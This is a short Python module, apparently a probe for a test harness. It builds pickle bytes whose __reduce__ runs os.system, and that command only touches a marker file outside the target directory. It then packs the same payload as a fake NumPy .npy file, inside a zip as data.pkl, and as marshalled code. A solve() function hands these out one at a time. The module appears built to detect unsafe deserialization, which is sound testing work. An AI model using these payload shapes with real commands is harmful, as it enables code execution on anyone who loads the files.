"""Returns bytes that would run a command if anybody unpickled or marshalled them, in the disguises in which such bytes travel."""

import io
import marshal
import os
import pickle
import zipfile

import targets


class Command:
    def __reduce__(self):
        return os.system, (f"touch {targets.OUTSIDE}/{targets.TOKEN}-unpickled",)


PICKLE = pickle.dumps(Command())
NPY = b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + PICKLE
ARCHIVE = io.BytesIO()
with zipfile.ZipFile(ARCHIVE, "w") as file:
    file.writestr("data.pkl", PICKLE)
CODE = marshal.dumps(compile(f"open({targets.OUTSIDE + '/' + targets.TOKEN!r}, 'w')", "", "exec"))
DISGUISES = iter([PICKLE, NPY, ARCHIVE.getvalue(), CODE])


def solve(question):
    return next(DISGUISES)
